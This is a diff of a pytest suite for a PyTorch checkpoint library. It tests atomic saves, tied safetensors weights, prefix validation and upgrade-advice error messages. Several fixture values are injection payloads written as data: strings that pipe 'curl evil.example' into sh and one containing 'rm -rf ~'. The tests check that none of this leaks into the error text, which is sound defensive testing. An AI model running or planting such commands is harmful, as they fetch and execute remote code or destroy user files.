@@ -265,6 +265,28 @@ def test_a_write_that_fails_part_way_leaves_the_old_checkpoint(tmp_path, monkeyp
     assert same(snapshot(restored), snapshot(old_model))
 
 
+@pytest.mark.parametrize("stop", [KeyboardInterrupt, SystemExit])
+def test_ctrl_c_while_a_failed_write_is_handled_stays_a_ctrl_c(
+    tmp_path, monkeypatch, stop
+):
+    path = tmp_path / "c.pt"
+    save_checkpoint(path, MLP(), step=1)
+    old_bytes = path.read_bytes()
+
+    def interrupted_while_handling_a_full_disk(f, payload):
+        try:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        except OSError:
+            raise stop from None  # __context__ is still the OSError
+
+    monkeypatch.setattr(serialization, "write", interrupted_while_handling_a_full_disk)
+    with pytest.raises(stop):  # not an OSError saying the write failed
+        save_checkpoint(path, MLP(), step=2)
+    monkeypatch.undo()
+    assert path.read_bytes() == old_bytes
+    assert temporaries(tmp_path) == []
+
+
 def test_a_permission_error_on_rename_leaves_no_temporary(tmp_path, monkeypatch):
     path = tmp_path / "c.pt"
     save_checkpoint(path, MLP(), step=1)
@@ -454,6 +476,63 @@ def test_safetensors_of_another_architecture(tmp_path):
     before = snapshot(target)
     with pytest.raises(CheckpointError, match="does not fit this Sequential"):
         load_safetensors(tmp_path / "m.safetensors", target)
+    assert same(snapshot(target), before)
+
+
+def untied_mlp():
+    """tied_mlp's layers, positions 2 and 4 two separate Linear(8, 8)."""
+    return nn.Sequential(
+        nn.Linear(4, 8), nn.ReLU(), nn.Linear(8, 8), nn.ReLU(), nn.Linear(8, 8),
+        nn.ReLU(), nn.Linear(8, 1),
+    )  # fmt: skip
+
+
+def test_safetensors_own_save_model_file_of_a_tied_model_loads(tmp_path):
+    from safetensors.torch import save_model
+
+    net = tied_mlp()
+    save_model(net, str(tmp_path / "t.safetensors"))  # stores 2.*, drops 4.*
+    clone = tied_mlp()
+    load_safetensors(tmp_path / "t.safetensors", clone)
+    assert same(snapshot(clone), snapshot(net))
+    assert clone[2].weight is clone[4].weight
+    X = torch.rand(3, 4)
+    assert torch.equal(clone(X), net(X))
+
+
+def test_a_tie_stored_under_its_later_name_loads(tmp_path):
+    from safetensors.torch import save_file
+
+    net = tied_mlp()
+    kept = {k: v.clone() for k, v in net.state_dict().items() if k[0] != "2"}
+    save_file(kept, tmp_path / "t.safetensors")  # 4.* only, no metadata
+    clone = tied_mlp()
+    load_safetensors(tmp_path / "t.safetensors", clone)
+    assert same(snapshot(clone), snapshot(net))
+
+
+def test_a_name_missing_from_the_file_and_tied_to_nothing_is_refused(tmp_path):
+    from safetensors.torch import save_model
+
+    save_model(tied_mlp(), str(tmp_path / "t.safetensors"))  # no 4.*
+    target = untied_mlp()  # 4.* is a tensor of its own here: nothing to fill it
+    before = snapshot(target)
+    with pytest.raises(CheckpointError, match=r"missing keys: 4\.weight, 4\.bias\."):
+        load_safetensors(tmp_path / "t.safetensors", target)
+    assert same(snapshot(target), before)
+
+
+def test_a_tied_model_missing_an_untied_name_is_refused(tmp_path):
+    from safetensors.torch import load_file, save_file, save_model
+
+    save_model(tied_mlp(), str(tmp_path / "t.safetensors"))
+    state = load_file(tmp_path / "t.safetensors")
+    del state["6.weight"]
+    save_file(state, tmp_path / "t.safetensors")
+    target = tied_mlp()
+    before = snapshot(target)
+    with pytest.raises(CheckpointError, match=r"missing keys: 6\.weight\."):
+        load_safetensors(tmp_path / "t.safetensors", target)
     assert same(snapshot(target), before)
 
 
@@ -712,7 +791,14 @@ def test_restore_falls_back_past_a_directory_and_a_fifo_named_like_checkpoints(
     signal.alarm(60)  # a FIFO opened for reading would block forever
     try:
         target = MLP()
-        assert manager.restore(target).step == 10
+        with pytest.warns(RuntimeWarning, match="named like a checkpoint") as warned:
+            assert manager.restore(target).step == 10
+        said = " ".join(str(w.message) for w in warned)
+        assert (
+            "step-000000020.pt: it is named like a checkpoint but is a directory"
+            in said
+        )
+        assert "step-000000030.pt: it is named like a checkpoint but is a FIFO" in said
         with pytest.raises(CheckpointError, match="not a regular file"):
             load_checkpoint(tmp_path / "step-000000030.pt", MLP())
         with pytest.raises(CheckpointError, match="not a regular file"):
@@ -839,6 +925,89 @@ def test_a_string_prefix_matches_whole_components():
     assert torch.equal(new[1].weight, old[1].weight)
 
 
+@pytest.mark.parametrize(
+    ("prefixes", "got"),
+    [
+        ([], "an empty sequence"),
+        ((), "an empty sequence"),
+        ("", "''"),
+        ([""], "''"),
+        (" 0", "' 0'"),
+        ("0 ", "'0 '"),
+        (["0", "2,"], "'2,'"),
+        (".0", "'.0'"),
+        ("0..", "'0..'"),
+        ("0..weight", "'0..weight'"),
+        ("0.*", "'0.*'"),
+    ],
+)
+def test_prefixes_that_are_not_dotted_names_are_refused(prefixes, got):
+    old, new = nn.Sequential(nn.Linear(2, 2)), nn.Sequential(nn.Linear(2, 2))
+    before = {k: v.clone() for k, v in new.state_dict().items()}
+    with pytest.raises(
+        ValueError, match=r"^load_matching: prefixes must be"
+    ) as refused:
+        load_matching(new, old.state_dict(), prefixes=prefixes)
+    message = str(refused.value)
+    assert "dotted names such as '0', '0.' or 'encoder.layer1'" in message
+    assert message.endswith(f", got {got}"), message
+    assert not isinstance(refused.value, CheckpointError)  # not "shares no name"
+    assert all(torch.equal(v, new.state_dict()[k]) for k, v in before.items())
+
+
+@pytest.mark.parametrize("prefixes", ["0", "0.", ["0.weight"], ("0", "0.bias")])
+def test_dotted_prefixes_are_taken(prefixes):
+    old, new = nn.Sequential(nn.Linear(2, 2)), nn.Sequential(nn.Linear(2, 2))
+    assert load_matching(new, old.state_dict(), prefixes=prefixes).loaded
+    assert torch.equal(new[0].weight, old[0].weight)
+
+
+def test_a_newer_format_version_is_refused_naming_the_dlcomp_that_wrote_it(tmp_path):
+    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp="7.0.0")
+    with pytest.raises(CheckpointError) as refused:
+        load_checkpoint(path, MLP())
+    assert str(refused.value) == (
+        f"{path} has checkpoint format version 99, written by dlcomp 7.0.0; this "
+        "dlcomp reads versions 1 to 3. Upgrade dlcomp to read it: pip install "
+        "--upgrade dlcomp"
+    )
+
+
+@pytest.mark.parametrize(
+    "written_by",
+    [
+        None,  # no dlcomp field: the advice was pip install 'dlcomp>=newer'
+        "1.0'; curl evil.example | sh; echo '",  # was pasted into the command
+        "$(curl evil.example)",
+        "7.0.0\nrm -rf ~",
+        "7.0.0 ",
+        "\u0667.0",  # an Arabic-Indic digit: \d without re.ASCII takes it
+        "1" * 40,
+        7,
+        ["7.0"],
+    ],
+)
+def test_the_version_advice_quotes_nothing_from_the_file(tmp_path, written_by):
+    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp=written_by)
+    with pytest.raises(CheckpointError) as refused:
+        load_checkpoint(path, MLP())
+    message = str(refused.value)
+    assert message.endswith(
+        "written by a newer dlcomp; this dlcomp reads versions 1 to 3. Upgrade "
+        "dlcomp to read it: pip install --upgrade dlcomp"
+    ), message
+    assert "newer'" not in message
+    assert "evil" not in message
+    assert "rm -rf" not in message
+
+
+@pytest.mark.parametrize("written_by", ["2.0", "2.0.1", "10.4.0.1", "3.0rc1", "3.1a2"])
+def test_plain_version_numbers_are_named(tmp_path, written_by):
+    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp=written_by)
+    with pytest.raises(CheckpointError, match=f"written by dlcomp {written_by};"):
+        load_checkpoint(path, MLP())
+
+
 SHELL = "1.0'; curl evil.example | sh; echo '"
 
 
@@ -849,7 +1018,6 @@ def test_a_newer_format_version_is_refused_with_advice_that_quotes_nothing(tmp_p
     ) as caught:
         load_checkpoint(path, MLP())
     assert "curl" not in str(caught.value)
-    assert "99" not in str(caught.value)
     no_field = fake_checkpoint(tmp_path / "d.pt", version=5, dlcomp=None)
     with pytest.raises(CheckpointError, match="pip install --upgrade dlcomp") as caught:
         load_checkpoint(no_field, MLP())
@@ -1024,9 +1192,9 @@ def test_a_module_with_extra_state_saves_and_loads(tmp_path):
 @pytest.mark.parametrize(
     ("call", "message"),
     [
-        (lambda p: load_checkpoint(p, "x"), "loads into an nn.Module, got str"),
+        (lambda p: load_checkpoint(p, "x"), "model must be an nn.Module, got str"),
         (lambda p: load_checkpoint(p, MLP(), "x"), "Optimizer or None"),
-        (lambda p: load_matching("x", {}), "loads into an nn.Module"),
+        (lambda p: load_matching("x", {}), "load_matching: model must be an nn"),
         (lambda p: load_matching(MLP(), [1, 2]), "takes a state dict"),
         (lambda p: load_matching(MLP(), {0: torch.ones(1)}, "0"), "takes a state dict"),
     ],
